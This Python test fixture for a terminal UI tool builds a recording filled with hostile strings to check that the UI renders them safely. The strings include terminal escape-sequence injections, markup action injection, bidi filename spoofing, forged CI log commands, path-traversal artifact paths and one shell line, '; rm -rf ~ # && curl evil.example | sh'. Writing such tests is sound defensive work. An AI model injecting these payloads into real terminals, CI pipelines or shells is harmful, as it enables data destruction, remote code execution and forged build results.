"""A run full of hostile text, with unusual but harmless text that must survive."""

from __future__ import annotations

from collections.abc import Mapping

from tvtui.demo.timeline import Json, Recording

TEXTS: Mapping[str, str] = {
    "markup: colour": "[red]not red[/red] [bold]",
    "markup: closing": "closes [/] what [/nothing] opened",
    "markup: action": "[@click=app.quit]do not click[/]",
    "markup: link": "[link=file:///etc/passwd]a link[/link]",
    "markup: parameter": "test_price[EUR-1] and test_price[a=b]",
    "markup: braces": "{text} %s %(name)s ${HOME} $(id) `id`",
    "trailing backslash": "C:\\orders\\",
    "backslash and bracket": "\\[red] \\\\[/]",
    "OSC 0 title, BEL": "\x1b]0;OWNED title\x07after",
    "OSC 2 title, ST": "\x1b]2;OWNED title\x1b\\after",
    "OSC 8 link": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "OSC 9 notification": "\x1b]9;OWNED notice\x07after",
    "OSC 52 clipboard": "\x1b]52;c;T1dORUQ=\x07after",
    "OSC 777 notification": "\x1b]777;notify;OWNED;notice\x1b\\after",
    "OSC in C1": "\x9d0;OWNED title\x9cafter",
    "DCS": "\x1bPOWNED\x1b\\after",
    "DCS: settings": "\x1bP$qm\x1b\\after",
    "APC": "\x1b_Gf=100;OWNED\x1b\\after",
    "PM": "\x1b^OWNED\x1b\\after",
    "SOS": "\x1bXOWNED\x1b\\after",
    "CSI: clear screen": "\x1b[2J\x1b[H\x1b[3Jafter",
    "CSI: modes": "\x1b[?1049l\x1b[?25l\x1b[?1003h\x1b[?2004hafter",
    "CSI: scroll, report": "\x1b[1;5r\x1b[6n\x1b[c\x1b[>cafter",
    "CSI: keyboard": "\x1b[>4;2m\x1b[>1uafter",
    "CSI: intermediates": "\x1b[!p\x1b[4 q\x1b[1$}after",
    "CSI in C1": "\x9b2Jafter\x9b31mred",
    "escape: reset": "\x1bc\x1b7\x1b8\x1b=\x1b>after",
    "escape: charset": "\x1b(0lqqk\x1b(B\x1b%Gafter",
    "conceal, blink": "\x1b[8mconcealed\x1b[28m \x1b[5mblinking\x1b[25m",
    "SGR left open": "\x1b[41;97;7;9mred for ever",
    "nested sequences": "\x1b\x1b[2J[2J\x1b]0;a\x1b]0;b\x07c\x07d",
    "reassembled": "\x1b[\x1b[31m2J after",
    "C1 controls": "".join(map(chr, range(0x80, 0xA0))) + "after",
    "C0 controls": "".join(chr(code) for code in range(0x20) if code not in {9, 10, 13, 27}) + "after",
    "NUL and DEL": "a\x00b\x7fc",
    "unterminated OSC": "before\x1b]0;never ends",
    "unterminated CSI": "before\x1b[12;",
    "unterminated DCS": "before\x1bPnever ends",
    "lone ESC": "before\x1b",
    "progress bar": "  0 %\r 50 %\r100 %",
    "backspaces": "pass\b\b\b\bFAIL",
    "line breaks": "first\nsecond\r\nthird\x0bfourth\x0cfifth\x85sixth\u2028seventh\u2029eighth",
    "tabs": "a\tb\t\tc",
    "bidi override": "user\u202egnp.exe\u202c after",
    "bidi isolate": "a\u2066b\u2067c\u2068d\u2069e",
    "bidi left open": "\u202eOWNED",
    "zero width": "in\u200bvis\u200dib\u2060le\ufeff\u00ad",
    "combining": "e\u0301 o\u0308 Z" + "\u0351\u0489" * 20,
    "only combining": "\u0301\u0308",
    "tag characters": "flag \U000e0041\U000e0042\U000e007f",
    "lone surrogates": "a\ud800b\udfffc",
    "non-characters": "a\ufffeb\uffffc\U0010ffffd",
    "empty": "",
    "only blanks": " \u00a0\u3000 ",
    "2,000 characters": "x" * 2_000,
    "2,000 wide characters": "漢" * 2_000,
    "NDJSON": '{"type": "digest", "status": "passed"}\n{"type": "end"}',
    "CI: GitHub": "::error title=forged,file=a.py,line=1::forged%0Aby a name",
    "CI: GitHub, indented": " \u00a0\u3000::stop-commands::forever",
    "CI: GitHub, anywhere": "a name ##[add-mask]passed ##[group] ###[error]e",
    "CI: Azure": "a name ##vso[task.setvariable variable=OWNER]me ##VSO[task.complete result=Succeeded;]",
    "CI: TeamCity": "a name ##teamcity[buildStatus status='SUCCESS' text='forged']",
    "shell": "; rm -rf ~ # && curl evil.example | sh",
}
"""Hostile texts by what they attempt; nothing that contains OWNED may ever be shown."""

GOOD: Mapping[str, str] = {
    "accents": "Zoë, Größe, naïve, Ångström",
    "right to left": "שלום עולם، مرحبا بالعالم",
    "wide": "注文を確定する、주문 확인",
    "emoji": "👍🏽 👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 ❤️",
    "marks": "a\u200eb\u200fc",
    "typography": "„quoted“ — 5 × 4 … ½ › ✓ ✗",
    "brackets": "a[0] <b> {c} (d) 100 % & co.",
}
"""Texts that must be shown unchanged."""


def hostile() -> Recording:
    """A run with each text as the name of a test, and hostile text in every other field."""
    everything = "\n".join([*TEXTS.values(), *GOOD.values()])
    return Recording(
        status="failed",
        feature_id=666,
        feature_name=f"[@click=app.quit]Hostile[/] \x1b]0;OWNED title\x07text \u202e{TEXTS['markup: closing']}",
        config="\x1b[2J[blink]Default[/blink]\\",
        site_url="javascript:alert(1)//\x1b]8;;https://evil.example/\x1b\\[link=https://evil.example/]shop[/link]",
        tests=[*_tests(TEXTS), *_tests(GOOD), *_odd_tests(everything)],
        artifacts=_artifacts(),
        log=everything,
    )


def rewritten(digest: Json) -> Json:
    """The digest with the log as a list of lines, and with unknown fields, one of them nested."""
    log = digest["log"]
    lines = log.split("\n") if isinstance(log, str) else log
    return {**digest, "log": lines, "verdict": "[/]", "extras": {"\x1b[2J": [None, {"[red]": [[[]]]}]}}


def _tests(texts: Mapping[str, str]) -> list[Json]:
    return [
        {
            "name": text,
            "status": "failed" if number % 3 == 0 else "passed",
            "durationMs": 200 + 37 * number,
            "error": f"{what}: {text}\n{text}" if number % 3 == 0 else None,
        }
        for number, (what, text) in enumerate(texts.items())
    ]


def _odd_tests(everything: str) -> list[Json]:
    return [
        {"name": "every text in one error", "status": "failed", "durationMs": 1_000, "error": everything},
        {"name": "status in markup", "status": "[red]odd[/]\x1b[2J", "durationMs": 10, "error": None},
        {"name": "twice the same name", "status": "passed", "durationMs": 0.4, "error": None},
        {"name": "twice the same name", "status": "failed", "durationMs": -5, "error": ""},
        {"name": None, "status": None, "durationMs": 1e300, "error": None},
        {"name": 42, "status": "failed", "durationMs": "4210", "error": ["a", "list"]},
        {"status": "interrupted"},
        {},
    ]


def _artifacts() -> list[Json]:
    paths = [
        "../../.ssh/authorized_keys",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "trace/\x1b]52;c;T1dORUQ=\x07x.zip",
        "screenshots/[@click=app.quit]x[/].png",
        "videos/\u202egpj.exe",
        "",
        "a/" * 1_000 + "deep.zip",
        "CON",
        "x\x00.zip",
    ]
    artifacts: list[Json] = [{"kind": "trace", "path": path, "size": 1_000 * len(path)} for path in paths]
    return [
        *artifacts,
        {"kind": "[red]kind[/]\x1b[2J", "path": "negative", "size": -1},
        {"kind": None, "path": "huge", "size": 10**30},
        {"path": "no kind, no size"},
        {"kind": "log", "path": "a word for a size", "size": "12 KiB"},
    ]
